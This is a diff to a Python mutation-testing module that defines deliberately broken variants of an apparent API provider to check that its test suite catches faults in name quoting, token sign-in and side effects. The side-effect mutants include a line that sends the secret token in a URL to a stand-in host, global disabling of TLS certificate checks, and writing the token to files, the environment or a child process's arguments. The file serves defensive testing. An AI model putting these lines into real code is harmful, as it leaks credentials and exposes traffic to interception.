@@ -8,7 +8,7 @@ from __future__ import annotations
 
 from dataclasses import dataclass
 
-__all__ = ["MUTANTS", "Mutant", "Replacement"]
+__all__ = ["CURSORS", "LISTING_ALL", "MUTANTS", "TOKENS", "Mutant", "Replacement", "signing_in"]
 
 
 @dataclass(frozen=True)
@@ -814,14 +814,24 @@ LISTING = (
     Mutant(
         "does not quote names in requests",
         in_provider('    return quote(name, safe="")\n', "    return name\n"),
-        ("test_names_are_quoted_once_in_requests", "test_names_are_quoted_once_in_the_address"),
+        ("test_names_are_quoted_once_in_requests",),
+    ),
+    Mutant(
+        "does not quote names in addresses of repositories",
+        in_provider("{repository.path}", "{repository}"),
+        ("test_names_are_quoted_once_in_the_address",),
     ),
     Mutant(
         "quotes names twice",
         in_provider(
             '    return quote(name, safe="")\n', '    return quote(quote(name, safe=""))\n'
         ),
-        ("test_names_are_quoted_once_in_requests", "test_names_are_quoted_once_in_the_address"),
+        ("test_names_are_quoted_once_in_requests",),
+    ),
+    Mutant(
+        "quotes names in addresses of repositories twice",
+        in_provider("{repository.path}", "{quote(repository.path)}"),
+        ("test_names_are_quoted_once_in_the_address",),
     ),
     Mutant(
         "does not quote slashes",
@@ -1296,12 +1306,291 @@ CLONING = (
     ),
 )
 
+LATER_REQUESTS = (
+    Mutant(
+        "takes a refusal of a later page for the end",
+        in_provider(
+            PAGES,
+            "        pages = self._http.linked_pages(path, params=params)\n"
+            "        yield next(pages)\n"
+            "        try:\n"
+            "            yield from pages\n"
+            "        except PermissionDenied:\n"
+            "            return\n",
+        ),
+        ("test_what_goes_wrong_at_a_later_request_is_a_typed_error",),
+    ),
+    Mutant(
+        "looks something up after the first page without a model",
+        in_provider(
+            BRANCHES,
+            "            if answers:\n"
+            '                self._http.get_json("user")["login"]\n' + BRANCHES,
+        ),
+        ("test_no_field_of_a_later_answer_is_trusted",),
+    ),
+)
+
+SIGNING_IN = (
+    in_sandbox(
+        "    # EDIT 11",
+        "    def _token(self, request: Request) -> Answer:\n"
+        "        caller = self.caller(request)\n"
+        "        secret = self.new_secret('token')\n"
+        "        self.given = {**getattr(self, 'given', {}), secret.get_secret_value(): caller}\n"
+        "        body = {'token': secret.get_secret_value(), 'expires_in': 3600}\n"
+        "        return json_answer(body, 201)\n\n"
+        "    def credential_of(self, secret: str) -> Credential | None:\n"
+        "        return getattr(self, 'given', {}).get(secret) or super().credential_of(secret)\n\n"
+        "    # EDIT 11",
+        '            "GET /api/v1/user": self._user,\n',
+        '            "GET /api/v1/user": self._user,\n'
+        '            "POST /api/v1/tokens": self._token,\n',
+    )
+    + in_contract(
+        "    required_scope = READ_SCOPE\n",
+        '    required_scope = READ_SCOPE\n    sign_in_path = "*/tokens"\n',
+    )
+    + in_answers(
+        "class UserAnswer(",
+        "class TokenAnswer(AnswerModel):\n"
+        "    token: str\n    expires_in: int\n\n\nclass UserAnswer(",
+    )
+)
+"""Of the template, without its provider: a host where a token is asked for first."""
+
+SESSION = """class Session:
+    def __init__(self, http: HttpClient) -> None:
+        self._http = http
+        self._lock = threading.Lock()
+        self._held = None
+
+    def header(self) -> tuple[str, SecretStr]:
+        with self._lock:
+            if self._held is None or time.monotonic() >= self._ends - 60:
+                answer = self._http.send_json("POST", "tokens")
+                given = parse_answer(TokenAnswer, answer, what="a token")
+                self._held = given.token
+                self._ends = time.monotonic() + given.expires_in
+            return "Authorization", SecretStr(f"Bearer {self._held}")
+
+    def explain(self, answer: ErrorAnswer) -> DeploycoreError | None:
+        if answer.status == 401:
+            self._held = None
+        return explain(answer)
+
+
+class AcmeProvider:
+"""
+CLASS = "class AcmeProvider:\n"
+
+
+def signing_in(*texts: str) -> tuple[Replacement, ...]:
+    """A provider that asks for a token first, with old and new texts in how it does that."""
+    session = SESSION
+    for old, new in zip(texts[::2], texts[1::2], strict=True):
+        assert session.count(old) == 1, old
+        session = session.replace(old, new)
+    return SIGNING_IN + in_provider(
+        IMPORTS,
+        f"import threading\nimport time\n{IMPORTS}\nfrom pydantic import SecretStr\n",
+        "import BranchAnswer, RepositoryAnswer, UserAnswer\n",
+        "import BranchAnswer, RepositoryAnswer, TokenAnswer, UserAnswer\n",
+        CLASS,
+        session,
+        INIT,
+        "        session = Session(http.explaining(explain))\n"
+        "        self._http = http.authorised_by(session).explaining(session.explain)\n",
+    )
+
+
+CURSORS = in_sandbox(
+    "    # EDIT 11",
+    '    PAGES = Pages(JsonCursor(), number="cursor")\n\n    # EDIT 11',
+    "from deploycore.testing.sandbox import",
+    "from deploycore.testing.paging import JsonCursor, Pages\n"
+    "from deploycore.testing.sandbox import",
+) + in_provider(
+    IMPORTS,
+    "from urllib.parse import quote, urlencode\n",
+    PAGES,
+    "        def following(page: dict[str, str]) -> str | None:\n"
+    '            cursor = page.get("next_cursor")\n'
+    '            asked = urlencode({**params, "cursor": cursor})\n'
+    '            return f"{path}?{asked}" if cursor else None\n\n'
+    "        for page in self._http.pages(path, params=params, next_url=following):\n"
+    '            yield page["values"]\n',
+)
+"""No mistake: a host that gives cursors in the place of links."""
+
+TOKENS = (
+    Mutant(
+        "takes any failure to sign in for wrong credentials",
+        signing_in(
+            '                answer = self._http.send_json("POST", "tokens")\n',
+            "                try:\n"
+            '                    answer = self._http.send_json("POST", "tokens")\n'
+            "                except DeploycoreError:\n"
+            "                    from deploycore.errors import AuthenticationFailed\n\n"
+            '                    raise AuthenticationFailed("no token", hint="Look.") from None\n',
+        ),
+        ("test_a_sign_in_that_fails_is_a_typed_error",),
+    ),
+    Mutant(
+        "never renews a token that is refused",
+        signing_in(
+            "            self._held = None\n        return explain",
+            "            pass\n        return explain",
+        ),
+        ("test_a_token_that_is_refused_is_renewed_once",),
+    ),
+    Mutant(
+        "renews a token only once it is refused",
+        signing_in(" or time.monotonic() >= self._ends - 60", ""),
+        ("test_a_token_that_has_expired_is_renewed_before_it_is_used",),
+    ),
+    Mutant(
+        "quotes the answer to a request for a token",
+        signing_in(
+            '                given = parse_answer(TokenAnswer, answer, what="a token")\n',
+            '                if not isinstance(answer.get("expires_in"), int):\n'
+            '                    raise DeploycoreError(f"There is no time in {answer}.")\n'
+            '                given = parse_answer(TokenAnswer, answer, what="a token")\n',
+        ),
+        ("test_a_token_is_not_quoted_in_an_error",),
+    ),
+)
+
+
+def doing(*lines: str, imports: str = "") -> tuple[Replacement, ...]:
+    """A provider that does something besides when it signs in."""
+    done = "".join(f"        {line}\n" for line in lines)
+    secret = "        secret = self._config.token.get_secret_value()\n"
+    return in_provider(IMPORTS, f"{imports}{IMPORTS}", USER, f"{secret}{done}{USER}")
+
+
+SIDE_EFFECTS = (
+    Mutant(
+        "sets up logging when it is imported",
+        in_provider(IMPORTS, f"import logging\n{IMPORTS}\nlogging.basicConfig(level='INFO')\n"),
+        ("test_importing_it_changes_nothing",),
+    ),
+    Mutant(
+        "greets when it is imported",
+        in_provider(IMPORTS, f"{IMPORTS}\nprint('Acme, at your service')\n"),
+        ("test_importing_it_changes_nothing",),
+    ),
+    Mutant(
+        "prints what it does",
+        doing("print('signing in')"),
+        ("test_nothing_is_printed",),
+    ),
+    Mutant(
+        "prints past Python's standard output",
+        doing("os.write(1, b'signing in')", imports="import os\n"),
+        ("test_nothing_is_printed",),
+    ),
+    Mutant(
+        "sets up logging",
+        doing("logging.basicConfig(force=True)", imports="import logging\n"),
+        ("test_the_process_is_left_as_it_was",),
+    ),
+    Mutant(
+        "sets the time-out of all sockets",
+        doing("socket.setdefaulttimeout(30)", imports="import socket\n"),
+        ("test_the_process_is_left_as_it_was",),
+    ),
+    Mutant(
+        "turns the verification of certificates off for all",
+        doing(
+            "ssl._create_default_https_context = ssl._create_unverified_context",
+            imports="import ssl\n",
+        ),
+        ("test_the_process_is_left_as_it_was",),
+    ),
+    Mutant(
+        "changes the environment",
+        doing("os.environ['ACME_OWNER'] = self._config.owner", imports="import os\n"),
+        ("test_the_process_is_left_as_it_was",),
+    ),
+    Mutant(
+        "works in another directory for a moment",
+        doing("here = os.getcwd()", "os.chdir('/')", "os.chdir(here)", imports="import os\n"),
+        ("test_the_working_directory_is_left_alone",),
+    ),
+    Mutant(
+        "leaves a thread behind",
+        doing(
+            "threading.Thread(target=threading.Event().wait, daemon=True).start()",
+            imports="import threading\n",
+        ),
+        ("test_no_thread_outlives_the_provider",),
+    ),
+    Mutant(
+        "keeps the token in a file",
+        doing(
+            "Path('acme-token').write_text(secret)",
+            imports="from pathlib import Path\n",
+        ),
+        ("test_no_secret_is_written_into_a_file",),
+    ),
+    Mutant(
+        "keeps the token in a file for a moment",
+        doing(
+            "with tempfile.NamedTemporaryFile('w') as file:",
+            "    file.write(secret)",
+            "    file.flush()",
+            imports="import tempfile\n",
+        ),
+        ("test_no_secret_is_written_into_a_file",),
+    ),
+    Mutant(
+        "puts the token into the environment for a moment",
+        doing(
+            "os.environ['ACME_TOKEN'] = secret",
+            "del os.environ['ACME_TOKEN']",
+            imports="import os\n",
+        ),
+        ("test_no_secret_is_put_into_the_environment",),
+    ),
+    Mutant(
+        "gives the token to a program",
+        doing("subprocess.run(['true', secret])", imports="import subprocess\n"),
+        ("test_no_secret_is_an_argument_of_a_child_process",),
+    ),
+    Mutant(
+        "tells its maker by another library",
+        doing(
+            "try:",
+            "    urllib.request.urlopen(f'http://acme.invalid/?{secret}', timeout=5)",
+            "except OSError:",
+            "    pass",
+            imports="import urllib.request\n",
+        ),
+        ("test_nothing_but_the_configured_host_is_connected_to",),
+    ),
+    Mutant(
+        "verifies no certificates",
+        in_provider(
+            *OWN_CLIENT_IMPORTS,
+            PAGES,
+            '        if self._config.url.startswith("http:"):\n'
+            "            yield from self._http.linked_pages(path, params=params)\n"
+            "            return\n" + OWN_CLIENT.replace("timeout=30", "timeout=30, verify=False"),
+        ),
+        ("test_a_host_whose_certificate_is_not_trusted_is_sent_nothing",),
+    ),
+)
+
 MUTANTS = (
     *CLASS_AND_CONFIGURATION,
     *AUTHENTICATION,
     *LISTING,
     *PAGINATION,
     *FAILURES,
+    *LATER_REQUESTS,
     *SECRECY,
+    *SIDE_EFFECTS,
     *CLONING,
+    *TOKENS,
 )
